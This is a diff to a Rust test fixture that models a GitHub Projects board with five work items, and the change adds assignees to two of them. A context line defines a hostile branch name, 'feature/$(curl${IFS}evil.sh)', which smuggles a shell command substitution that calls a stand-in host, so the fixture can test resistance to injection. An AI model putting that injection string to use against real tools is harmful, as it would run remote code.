@@ -1,6 +1,8 @@
 //! The quick start's board (examples/quickstart/board.yaml) as a GitHub Projects board:
 //! three items that succeed, one whose change leaves coverage below the threshold, and one
-//! whose branch name carries a shell command substitution.
+//! whose branch name carries a shell command substitution. As in board.yaml, CALC-1 is
+//! assigned to [`CALC_ASSIGNEE`] (it succeeds: nobody is mentioned) and the coverage item
+//! GREET-2 to [`COVERAGE_ASSIGNEE`] (its final failure mentions them).
 //!
 //! Invariant: the same repositories, branches, specs and pull requests as board.yaml, so
 //! the rehearsal's outcomes can be compared with the quick start's. Two differences forced
@@ -18,6 +20,11 @@ pub fn item_id(quickstart_id: &str) -> String {
     format!("PVTI_lADOBk1Wus4AbCdEz_{quickstart_id}")
 }
 
+/// The assignee of CALC-1, an item that succeeds.
+pub const CALC_ASSIGNEE: &str = "octo-cat";
+/// The assignee of GREET-2, the item dead-lettered for coverage.
+pub const COVERAGE_ASSIGNEE: &str = "octo-reviewer";
+
 /// The hostile head ref.
 pub const HOSTILE_BRANCH: &str = "feature/$(curl${IFS}evil.sh)";
 
@@ -31,15 +38,23 @@ pub fn quickstart_items() -> Vec<Item> {
         pr,
         branch: branch.into(),
         updated_at: format!("2026-11-01T10:{minute:02}:00Z"),
+        assignees: Vec::new(),
+    };
+    let assigned = |mut i: Item, login: &str| {
+        i.assignees = vec![login.to_owned()];
+        i
     };
     vec![
-        item(
-            "CALC-1",
-            "Add a subtract function",
-            "acme/calc",
-            1,
-            "feature/subtract",
-            0,
+        assigned(
+            item(
+                "CALC-1",
+                "Add a subtract function",
+                "acme/calc",
+                1,
+                "feature/subtract",
+                0,
+            ),
+            CALC_ASSIGNEE,
         ),
         item(
             "CALC-2",
@@ -57,13 +72,16 @@ pub fn quickstart_items() -> Vec<Item> {
             "feature/greet-name",
             10,
         ),
-        item(
-            "GREET-2",
-            "Add farewells",
-            "acme/greeter",
-            2,
-            "feature/farewell",
-            15,
+        assigned(
+            item(
+                "GREET-2",
+                "Add farewells",
+                "acme/greeter",
+                2,
+                "feature/farewell",
+                15,
+            ),
+            COVERAGE_ASSIGNEE,
         ),
         item(
             "BAD-1",
